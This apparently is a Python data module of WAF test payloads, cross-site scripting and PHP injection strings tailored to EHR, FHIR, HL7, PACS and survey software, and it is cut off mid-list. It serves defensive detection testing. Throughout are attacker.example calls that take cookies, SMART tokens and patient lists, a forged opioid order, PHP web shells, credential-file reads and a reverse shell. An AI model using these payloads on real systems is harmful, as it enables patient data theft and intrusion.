"""Blind set "twohundredsixteenth": cross-site scripting and PHP injection aimed at the software of hospitals, clinics,
labs and insurers, with benign requests that carry the same words innocently.

The angle: healthcare and life-sciences systems, recalled from memory. Every payload is written the way it is aimed
at one kind of clinical software, with that system's own parameter names and quirks: EHR and practice-management
web apps (the PHP ones such as OpenEMR and LibreHealth, their `site`, `pid`, `formname` and document folders),
patient portals and appointment booking, FHIR REST APIs (search parameters, `_include`, `_filter`, `$everything`,
narratives rendered as XHTML), HL7 v2 interfaces and their web gateways (a PID-5 or OBX-5 shown unescaped),
DICOM/PACS web viewers and WADO endpoints (study UIDs, PatientName), LIMS and sample trackers, e-prescribing and
pharmacy systems, billing and claims portals, telehealth platforms, research data warehouses and REDCap-style
survey tools (PHP, field labels, piping, calculated fields), medical-device management consoles. Each group of
payloads carries a short comment naming its family, the system and the target (browser, PHP interpreter, a PHP
framework's gadget chain, Apache/PHP-FPM configuration, the product).

Families (category xss; one sub-family per detection title):
  libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction), javascript-uri,
  html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression, template-literal-dom-sink,
  ie-filter-style, encoded-entity, angular-vue-client-template
Families (category php):
  php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/create_function/
  preg_replace-e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://, zip://, glob://),
  php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file, allow_url_include),
  superglobals, php-file-upload (.php/.phtml/.phar names), php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Whole FHIR resources go as the JSON body;
upload names go as the file name of a multipart upload (the admin import, a suite's upload path); PHP-CGI argument
injection, extract()/register_globals overwrites and callback parameters go as raw `name=value` query strings.
Payloads with control characters (HL7 segment separators, tabs, NUL) never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, of the
clinical systems as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test
or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredsixteenth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
UP = ("multipart-filename", "rs-multipart-filename")
RAWQ = ("param-name", "rs-param-name")
RAWF = ("form", "rs-raw-body")

# ================================================================================================================
# XSS (target: the browser of the clinician, the patient or the billing clerk who opens the page)
# ================================================================================================================

# libinjection-xss: short breakouts from the context the value is reflected in
LIBINJECTION: list[Entry] = [
    # patient portal search (?family=), reflected between tags in "No patients match ..." (browser)
    '"><script>alert(document.domain)</script>',
    "'><svg onload=alert(1)>",
    '"><img src=x onerror=prompt(1)>',
    # EHR progress note: the saved text comes back inside a <textarea> (browser)
    "</textarea><script>alert(1)</script>",
    # appointment booking: the clinic name is echoed into <title> (browser)
    "</title><script>fetch('//attacker.example/'+document.cookie)</script>",
    # HL7 web gateway: the raw message is shown inside an HTML comment on the error page (browser)
    "--><script>alert(1)</script>",
    # CDA viewer: the section text is copied into a CDATA block of the rendered XHTML (browser)
    "]]><script>alert(1)</script>",
    # e-prescribing: the drug search term lands in an inline script, var term = "..." (browser)
    "</script><script>alert(document.cookie)</script>",
    '";alert(1);//',
    "'-alert(1)-'",
    '\\";alert(1)//',
    # LIMS sample tracker: the barcode is written into value="..." of an input (browser)
    '"autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    # ward selector: the value breaks out of the <select> of the bed board (browser)
    "</option></select><img src=x onerror=alert(1)>",
    # telehealth waiting room: the display name goes inside a <style> block for the avatar colour (browser)
    "</style><script>alert(1)</script>",
    # claims portal free text, minimal tags that some sanitizers let through (browser)
    "<details open ontoggle=alert(1)>",
    "<x onclick=alert(1)>click to view EOB",
    "<body onload=alert(1)>",
    '"><iframe src=javascript:alert(1)>',
    "<a href=javascript:alert(1)>View lab results</a>",
]

# script-tag: a <script> element injected where the page renders stored text
SCRIPT_TAG: list[Entry] = [
    # OpenEMR message centre / patient note, stored and shown to the physician (browser)
    "<script>alert(document.domain)</script>",
    "<script src=//attacker.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    # steal the EHR session cookie (browser)
    "<script>new Image().src='https://attacker.example/c?'+document.cookie</script>",
    # SMART on FHIR app: the access token lives in sessionStorage under SMART_KEY (browser)
    "<script>fetch('//attacker.example/t?'+encodeURIComponent(sessionStorage.getItem('SMART_KEY')))</script>",
    # read the patient list through the FHIR API with the victim's session and send it away (browser)
    "<script>fetch('/fhir/Patient?_count=500').then(r=>r.text()).then(t=>fetch('https://attacker.example/x',"
    "{method:'POST',body:t}))</script>",
    # e-prescribing: a forged order posted with the prescriber's cookies (browser)
    "<script>fetch('/api/orders',{method:'POST',credentials:'include',headers:{'Content-Type':'application/json'},"
    "body:JSON.stringify({drug:'oxycodone 10mg',qty:90,refills:5})})</script>",
    '<script type="text/javascript">document.location=\'https://attacker.example/?c=\'+document.cookie</script>',
    "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>",
    "<script/src=data:,alert(1)></script>",
    "<script>document.write('<img src=//attacker.example/p?'+document.cookie+'>')</script>",
    # LIMS result comment, the filter only checks for "<script>" followed by a letter (browser)
    "<script\ttype=text/javascript>alert(1)</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script >alert(1)</script >",
    # REDCap-style survey field label, the sanitizer strips "<script>" once (browser)
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>setTimeout('alert(1)',0)</script>",
    "<script>window.onerror=alert;throw 1</script>",
    "<script>import('//attacker.example/m.js')</script>",
    # telehealth visit notes: send the whole chart page out (browser)
    "<script>navigator.sendBeacon('//attacker.example/b',document.body.innerHTML)</script>",
    # patient portal: send the user to a look-alike login (browser)
    "<script>top.location='https://attacker.example/mychart/login'</script>",
    # older practice-management UIs ship jQuery (browser)
    "<script>$.getScript('//attacker.example/k.js')</script>",
    # HL7 v2 ORU, OBX-5 shown unescaped by the interface engine's message browser (browser)
    "OBX|1|TX|11526-1^Pathology study^LN||<script>alert(document.cookie)</script>||||||F",
]

# event-handler: on* attributes that run as soon as the element renders or is touched
EVENT_HANDLER: list[Entry] = [
    # PACS web viewer thumbnail list, a broken WADO image fires onerror (browser)
    "<img src=x onerror=alert(1)>",
    '<img src="/wado?requestType=WADO&studyUID=1&seriesUID=1&objectUID=x" onerror="alert(document.cookie)">',
    "<img src=x onerror=\"fetch('//attacker.example/?'+document.cookie)\">",
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror=eval(name)>",
    # patient portal message body (browser)
    "<body onpageshow=alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    # telehealth chat: media elements (browser)
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<div onmouseover="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<object data=x onerror=alert(1)>",
    "<iframe onload=alert(1)>",
    # appointment booking confirmation page (browser)
    "<button onclick=alert(1)>Confirm appointment</button>",
    "<div draggable=true ondragstart=alert(1)>drag</div>",
    "<style onload=alert(1)>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    # HL7 NTE comment rendered in the lab result view (browser)
    "NTE|1||<img src=x onerror=alert(document.domain)>",
]

# attribute-vector: src, href, style and formaction carrying script
ATTRIBUTE: list[Entry] = [
    # claims portal: a button that submits the claim form to javascript: (browser)
    "<form><button formaction=javascript:alert(1)>Submit claim</button></form>",
    "<form><input type=submit formaction=javascript:alert(1) value=Book>",
    '<button form=x formaction=javascript:alert(1)>Refill</button><form id=x>',
    '<iframe src="javascript:alert(document.domain)">',
    "<embed src=javascript:alert(1)>",
    '<object data="javascript:alert(1)">',
    "<form action=javascript:alert(1)><input type=submit value=Pay>",
    # patient education link in the after-visit summary (browser)
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>discharge-instructions.pdf</a>",
    '<iframe srcdoc="<script>alert(parent.document.cookie)</script>">',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
    # DICOM viewer: the thumbnail URL parameter is written into <img src="..."> (browser)
    '" src=x onerror=alert(1) "',
    'x" onerror="alert(1)',
    # patient portal avatar: the value breaks out of the style="..." attribute (browser)
    '" style="position:fixed;inset:0;z-index:9999" onmouseover="alert(1)',
    # provider directory: the profile website is written into href="..." (browser)
    '" href="javascript:alert(1)',
    '<a href="  javascript:alert(1)">Open referral</a>',
    '<a href="javascript:alert(1)" target="_self">Download DICOM</a>',
    # legacy intranet EHR still opened in IE document modes (browser)
    "<table background=javascript:alert(1)>",
    "<video poster=javascript:alert(1)//>",
    "<input type=image src=javascript:alert(1)>",
    # CDA viewer stylesheet renders linkHtml/@href as a link without checking the scheme (browser)
    '<linkHtml href="javascript:alert(document.cookie)">View imaging report</linkHtml>',
    '<div style="background-image:url(javascript:alert(1))">',
]

# javascript-uri: a URL field (returnUrl, redirect_uri, website, document link) that a page follows or links to
JS_URI: list[Entry] = [
    # patient portal login ?returnUrl= / SMART launch redirect_uri (browser)
    "javascript:alert(document.domain)",
    "javascript:alert(1)//",
    "JaVaScRiPt:alert(1)",
    "javascript://%0aalert(1)",
    "javascript://comment%0Aalert(document.cookie)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript:window.location='https://attacker.example/?'+document.cookie",
    "javascript:eval(atob('YWxlcnQoMSk='))",
    "javascript:alert%281%29",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/",
    # claims portal "back to EOB" link replaced by a fake sign-in form (browser)
    "javascript:void(document.body.innerHTML='<form action=//attacker.example/l><input name=pw type=password>"
    "<button>Sign in</button></form>')",
    "javascript:top['al'+'ert'](1)",
    "javascript:confirm(1)",
    "javascript:'<img src=x onerror=alert(1)>'",
    # SMART app: token from localStorage (browser)
    "javascript:location.href='//attacker.example/'+localStorage.getItem('access_token')",
    # IE-only clinical desktops (browser, VBScript)
    'vbscript:msgbox("XSS")',
    # document viewer link field (browser, data: URI)
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
]

# html-injection: markup that loads, frames, redirects or phishes (iframe/object/embed/base/meta/link/form)
HTML_INJECTION: list[Entry] = [
    # patient portal message: a framed fake login over the whole page (browser)
    "<iframe src=https://attacker.example/login.html width=100% height=100% frameborder=0>",
    '<div style="position:absolute;top:0;left:0;width:100%;height:100%;background:#fff"><iframe '
    'src=//attacker.example/portal-login frameborder=0 width=100% height=100%></iframe></div>',
    # EHR page: <base> makes every relative script load from the attacker (browser)
    '<base href="https://attacker.example/">',
    "<base href=javascript:/a/-alert(1)///////><a href=../lab>results</a>",
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/portal">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Set-Cookie" content="PHPSESSID=attackerfixed">',
    '<object data="https://attacker.example/x.swf" type="application/x-shockwave-flash">',
    '<embed src="https://attacker.example/x.svg" type="image/svg+xml">',
    "<link rel=import href=https://attacker.example/x.html>",
    "<link rel=stylesheet href=https://attacker.example/steal.css>",
    # HL7 OBX rendered as HTML in the results inbox: credential phishing form (browser)
    '<form action=https://attacker.example/collect method=post><input name=username placeholder="Portal ID">'
    '<input name=password type=password><input type=submit value="Sign in to view results"></form>',
    # dangling markup: everything up to the next quote (the CSRF token, the MRN) goes to the attacker (browser)
    "<img src='https://attacker.example/leak?",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe src="data:text/html,<script>alert(1)</script>">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQo'
    'MSkiLz4=" type="image/svg+xml">',
    "<frameset><frame src=javascript:alert(1)>",
    # telehealth invite e-mail preview (browser)
    '<a href="https://attacker.example/visit" style="display:block;font-size:28px">Join your video visit now</a>'
    '<iframe src="https://attacker.example/" style="display:none"></iframe>',
    "<portal src=https://attacker.example/>",
    # FHIR Patient resource, family name stored with markup and rendered by a SMART app (browser)
    ('{"resourceType":"Patient","name":[{"family":"<iframe src=javascript:alert(document.domain)>",'
     '"given":["Test"]}],"gender":"unknown"}', *JB),
]

# svg/mathml: foreign content and its own scriptable elements
SVG_MATHML: list[Entry] = [
    # DICOM viewer annotation layer accepts SVG markup (browser)
    "<svg onload=alert(1)>",
    "<svg/onload=alert(document.domain)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">Open study</text></a></svg>',
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>click</text>"
    "</a></svg>",
    "<svg><set onbegin=alert(1) attributeName=x>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1h'
    'Z2UgaHJlZj0ieCIgb25lcnJvcj0iYWxlcnQoMSkiLz48L3N2Zz4=#x"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><image href=x onerror=alert(1)>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    # uploaded as a wound-care photo or a device console logo (browser, image/svg+xml served inline)
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    # research data warehouse: formula fields rendered as MathML (browser)
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>",
    '<math href="javascript:alert(1)">dose</math>',
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">BMI</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
]

# css-expression: script through stylesheets (IE expression/behavior, url(javascript:), CSS exfiltration)
CSS: list[Entry] = [
    # legacy EHR pinned to IE7/IE8 document mode (browser, IE)
    '<div style="width:expression(alert(1))">',
    '<div style="xss:expression(alert(document.cookie))">',
    '<xss style="xss:expr/*comment*/ession(alert(1))">',
    '<div style="x:\\65\\78\\70\\72\\65\\73\\73\\69\\6f\\6e(alert(1))">',
    '<img style="xss:expression(alert(1))" src=x>',
    '<p style="color:red;width:expression(document.location=\'https://attacker.example/?\'+document.cookie)">',
    '<div style="behavior:url(//attacker.example/x.htc)">',
    # ward colour setting written into a style attribute of the bed board (browser, IE)
    "red;width:expression(alert(1))",
    "red;background-image:url(javascript:alert(1))",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>@import url(//attacker.example/x.css);</style>",
    "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x</li></ul>",
    # old Firefox XBL binding (browser, Gecko)
    "<style>*{-moz-binding:url(//attacker.example/xss.xml#x)}</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    # billing portal: CSS attribute selectors leak the CSRF token and the MRN one character at a time (browser)
    "<style>input[name=csrf_token][value^=a]{background:url(//attacker.example/?t=a)}</style>",
    '<style>input[name=mrn][value^="1"]{background-image:url(https://attacker.example/leak?mrn=1)}</style>',
    "<style>a[href*=\"Patient/\"]{background:url(https://attacker.example/?p)}</style>",
    "<style>@font-face{font-family:x;src:url(https://attacker.example/f?u=reader)}body{font-family:x}</style>",
    "<div style=\"background:url('javascript:alert(1)')\">",
    "<style>body{behavior:url(#default#time2)}</style>",
]

# template-literal/dom-sink: strings that a script feeds to eval, innerHTML, location or a template literal
DOM_SINK: list[Entry] = [
    # appointment booking SPA builds a template literal from the reason-for-visit field (browser)
    "${alert(1)}",
    "${fetch('//attacker.example/?'+document.cookie)}",
    "`-alert(1)-`",
    "`;alert(document.domain);`",
    # patient portal writes location.hash into innerHTML for the tab name (browser)
    "#<img src=x onerror=alert(1)>",
    "#javascript:alert(1)",
    # inline JSON config, the value is reflected inside ['...'] (browser)
    "'];alert(1);//",
    "';document.location='//attacker.example/?'+document.cookie;'",
    # research warehouse: client-side eval of calculated-field logic (browser)
    "constructor.constructor('alert(1)')()",
    "[].constructor.constructor('alert(document.cookie)')()",
    "Function('alert(1)')()",
    "setTimeout`alert\\x281\\x29`",
    "alert`1`",
    "<img src=x onerror=alert`1`>",
    "top[/al/.source+/ert/.source](1)",
    "window['ev'+'al']('ale'+'rt(1)')",
    "location='javas'+'cript:alert(1)'",
    "eval(location.hash.slice(1))",
    # telehealth SDK merges query objects: prototype pollution into an innerHTML/srcdoc gadget (browser)
    ('{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}', *JB),
    ("__proto__[srcdoc][]=<script>alert(1)</script>", *RAWQ),
    ("constructor[prototype][src]=data:,alert(1)//", *RAWQ),
    # jQuery $(location.hash) selector sink in an older practice-management app (browser)
    "#\"><img src=x onerror=alert(1)>",
]

# ie-filter-style vectors: the shapes the old IE XSS filter looked for (string breakouts, IE-only tags)
IE_FILTER: list[Entry] = [
    # inline script string context in an IE-era hospital intranet (browser, IE)
    '"+alert(1)+"',
    "\";location='//attacker.example/?'+document.cookie;\"",
    "'-eval(name)-'",
    "\";document.write('<img src=//attacker.example/>');\"",
    '"; onerror=alert;throw 1;//',
    '"in(alert(1))in"',
    "'+self['ale'+'rt'](1)+'",
    # IE data binding, HTML+TIME, VML, XML islands (browser, IE)
    '<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml><span datasrc=#x datafld=c '
    'dataformatas=html></span>',
    '<?import namespace="t" implementation="#default#time2">',
    '<t:set attributeName="innerHTML" to="XSS&lt;SCRIPT DEFER&gt;alert(1)&lt;/SCRIPT&gt;">',
    '<v:vmlframe src="https://attacker.example/vml.vml#xss"></v:vmlframe>',
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:alert(1)>'
    '</object>',
    '<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">alert(1)</xss:script>',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<bgsound src="javascript:alert(1)">',
    '<br size="&{alert(1)}">',
    '<a href="vbscript:MsgBox(document.cookie)">Print wristband</a>',
    '<script language="VBScript">MsgBox "XSS"</script>',
    "<embed src=//attacker.example/xss.swf allowscriptaccess=always>",
]

# encoded/entity vectors: payloads that decode to script after entity, percent, escape or charset decoding
ENCODED: list[Entry] = [
    # HL7 viewer unescapes entities before inserting the segment into the page (browser)
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    # FHIR gateway URL-decodes the search value once more than the WAF does (browser)
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%3Csvg%2Fonload%3Dalert(document.domain)%3E",
    # e-prescribing: entity-encoded javascript: URL in the pharmacy website field (browser)
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;'
    '&#49;&#41;">Pharmacy</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">Label</a>',
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
    "<img src=x onerror=&#x61;lert&#x28;1&#x29;>",
    "<img src=x onerror=&#0000097;lert(1)>",
    '<a href="javascript&colon;alert&lpar;1&rpar;">Claim</a>',
    '<a href="jav&Tab;ascript:alert(1)">EOB</a>',
    '<a href="jav&NewLine;ascript:alert(1)">EOB</a>',
    '<a href="jav&#x09;ascript:alert(1)">EOB</a>',
    # device console: the value lands in a JS string written out with document.write (browser)
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    # UTF-7 on a page without a charset (old lab report viewer, browser, IE)
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=x onerror=\\u0061lert(1)>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<img src=x onerror=eval('\\x61lert(1)')>",
    '<iframe src="data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
]

# angular/vue client templates: expressions the front-end framework evaluates from text in the page
CLIENT_TEMPLATE: list[Entry] = [
    # AngularJS 1.6+ patient portal, interpolated {{ }} in the profile name (browser)
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{$eval.constructor('alert(document.cookie)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{ {}.toString.constructor('alert(1)')() }}",
    "{{constructor.constructor('fetch(\"//attacker.example/?\"+document.cookie)')()}}",
    # AngularJS 1.4 sandbox escape (browser)
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    # AngularJS 1.3 sandbox escape (browser)
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor);}}",
    # AngularJS directives in stored markup, CSP mode (browser)
    "<div ng-app ng-csp><div ng-click=$event.view.alert(1)>click</div></div>",
    "<input autofocus ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\">",
    "<div ng-app ng-init=\"constructor.constructor('alert(1)')()\">",
    # interpolation symbols changed to [[ ]] by the EHR's AngularJS config (browser)
    "[[constructor.constructor('alert(1)')()]]",
    # Vue 2 telehealth front end compiling in-DOM templates (browser)
    "{{_c.constructor('alert(1)')()}}",
    "{{this.constructor.constructor('alert(1)')()}}",
    "<div v-html=\"''.constructor.constructor('alert(1)')()\">a</div>",
    "<x @click=\"$event.view.alert(1)\">click</x>",
    "<img src=x @error=\"$event.target.ownerDocument.defaultView.alert(1)\">",
    # Vue 3 (browser)
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    # FHIR narrative with an AngularJS expression, rendered by an Angular-based chart viewer (browser)
    ('{"resourceType":"Observation","status":"final","code":{"text":"HbA1c"},"text":{"status":"generated",'
     '"div":"<div xmlns=\\"http://www.w3.org/1999/xhtml\\">{{constructor.constructor(\'alert(1)\')()}}</div>"}}',
     *JB),
]

# healthcare-shaped reflections spread over the families above (the system's own parameter shapes)
LIBINJECTION += [
    # FHIR test page overlay: the bad _include value is echoed in the HTML OperationOutcome (browser)
    "Patient:general-practitioner<svg/onload=alert(1)>",
    # WADO-URI: the studyUID is echoed in the error page of the PACS web viewer (browser)
    '1.2.840.113619.2.55.3"><script>alert(1)</script>',
]
EVENT_HANDLER += [
    # DICOM PatientName (PN, ^-separated) shown in the viewer's study header (browser)
    "<img src=x onerror=alert(1)>^DOE^JOHN",
    # FHIR _filter echoed in the error banner of the EHR's FHIR console (browser)
    'name eq "<img src=x onerror=alert(document.domain)>"',
]
HTML_INJECTION += [
    # FHIR narrative XHTML: text.div rendered as-is by the patient summary (browser)
    ('{"resourceType":"Condition","text":{"status":"generated","div":"<div xmlns=\\"http://www.w3.org/1999/xhtml'
     '\\"><img src=\\"x\\" onerror=\\"alert(1)\\"/></div>"},"code":{"text":"Asthma"}}', *JB),
]
SCRIPT_TAG += [
    # HL7 v2 ADT in a web gateway's "test message" box: PID-5 shown unescaped (browser)
    "MSH|^~\\&|ADT|HOSP|EHR|HOSP|202401011200||ADT^A04|MSG0001|P|2.5.1\rPID|1||123456^^^MRN||"
    "<script>alert(document.cookie)</script>^JOHN||19800101|M",
]

# ================================================================================================================
# PHP (target: the PHP interpreter behind OpenEMR, LibreHealth, REDCap, WordPress clinic plugins, PHP LIMS/PACS
# front ends)
# ================================================================================================================

# php-open-tag: code that a PHP file later runs (log poisoning, templates saved as .php, archived messages)
OPEN_TAG: list[Entry] = [
    # OpenEMR: the value lands in a log or a document later included by PHP (PHP interpreter)
    "<?php system($_GET['cmd']); ?>",
    "<?php echo shell_exec($_REQUEST['c']); ?>",
    "<?= `id` ?>",
    "<? passthru($_GET[0]); ?>",
    "<?php eval($_POST['x']);",
    "<?=system($_GET[1])?>",
    "<?= $_GET[0]($_GET[1]) ?>",
    "<?php @eval(base64_decode($_POST['z'])); ?>",
    "<?php if(isset($_REQUEST['c'])){echo '<pre>';system($_REQUEST['c']);echo '</pre>';} ?>",
    # PHP 5 script-language and ASP-style tags (PHP interpreter, old LIMS)
    '<script language="php">system("id");</script>',
    "<% system('id'); %>",
    # read the EHR and survey tool database credentials (PHP interpreter)
    "<?php echo file_get_contents('/var/www/html/openemr/sites/default/sqlconf.php'); ?>",
    "<?php echo file_get_contents('/var/www/html/redcap/database.php'); ?>",
    "<?php var_dump(scandir('/var/www/html/openemr/sites/default/documents')); ?>",
    "<?PHP readfile('/etc/passwd'); ?>",
    "<?php phpinfo(); ?>",
    "<?php include($_GET['f']); ?>",
    # drop a second web shell into the document store (PHP interpreter)
    "<?php file_put_contents('/var/www/html/openemr/sites/default/documents/s.php','<?php system($_GET[c]);'); ?>",
    "<?php copy('http://attacker.example/s.txt','s.php'); ?>",
    # reverse shell from the PACS front end (PHP interpreter)
    "<?php $s=fsockopen('10.0.0.5',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>",
    "<?php echo `cat /etc/passwd`; ?>",
    # the filter wants a space after "<?php": a newline or a tab also counts (PHP interpreter)
    "<?php\nsystem($_GET['c']);",
    "<?php\tsystem('id');?>",
    # GIF header first: the upload check reads the magic bytes only (PHP interpreter)
    "GIF89a<?php system($_GET['c']); ?>",
    "<?php sleep(10); ?>",
    "<?php print_r(getenv()); ?>",
    # HL7 message archived by a PHP interface gateway under a .php name (PHP interpreter)
    "MSH|^~\\&|LAB|HOSP|EHR|HOSP|202401011200||ORU^R01|1|P|2.5.1\rOBX|1|TX|X||<?php system($_GET['c']); ?>||||||F",
]

# php-function-call: command and code execution functions, as an eval() or a callback sink receives them
FUNCTION_CALL: list[Entry] = [
    # REDCap-style calculated field evaluated server-side: the expression becomes PHP (PHP interpreter)
    "system('id');",
    "exec('whoami',$o);print_r($o);",
    "passthru('cat /etc/passwd');",
    "echo shell_exec('uname -a');",
    "echo fread(popen('id','r'),4096);",
    "proc_open('id',[1=>['pipe','w']],$p);echo stream_get_contents($p[1]);",
    "assert('system(\"id\")');",
    "eval('system(\"id\");');",
    "$f=create_function('','system($_GET[c]);');$f();",
    "preg_replace('/.*/e','system(\"id\")','x');",
    "preg_replace('/(.*)/e','passthru(\"\\\\1\")','ls -la /var/www');",
    "mb_ereg_replace('.*','system(\"id\")','x','e');",
    "array_map('system',['id']);",
    "call_user_func('system','id');",
    "call_user_func_array('passthru',['ls -la /var/www/html/openemr']);",
    "array_filter(['id'],'system');",
    "register_shutdown_function('system','id');",
    "pcntl_exec('/bin/sh',['-c','id']);",
    "ob_start('system');echo 'id';ob_end_flush();",
    "print(`id`);",
    # the calculated field is concatenated into eval("return " . $expr . ";") (PHP interpreter)
    "1;system('id');//",
    "[weight]/([height]*[height]));system('id');//",
    "');system('id');//",
    "\".system('id').\"",
    "${system('id')}",
    "${@passthru('cat /etc/passwd')}",
    "phpinfo();",
]

# php-variable-functions: the function name assembled at run time so that no blacklisted word appears
VARIABLE_FUNCTIONS: list[Entry] = [
    # LibreHealth / OpenEMR custom report "formula" field eval()ed by the report engine (PHP interpreter)
    "$a='sys'.'tem';$a('id');",
    "$_GET['f']($_GET['c']);",
    "('sys'.'tem')('id');",
    "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id');",
    "$f=strrev('metsys');$f('id');",
    "$x=base64_decode('c3lzdGVt');$x('id');",
    "(str_rot13('flfgrz'))('id');",
    "$a=hex2bin('73797374656d');$a('id');",
    '("\\x73\\x79\\x73\\x74\\x65\\x6d")("id");',
    '("\\163\\171\\163\\164\\145\\155")("id");',
    '(~"\\x8c\\x86\\x8c\\x8b\\x9a\\x92")("id");',
    '$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);',
    "$a='b';$$a='system';$b('id');",
    "$f='assert';$f($_POST['p']);",
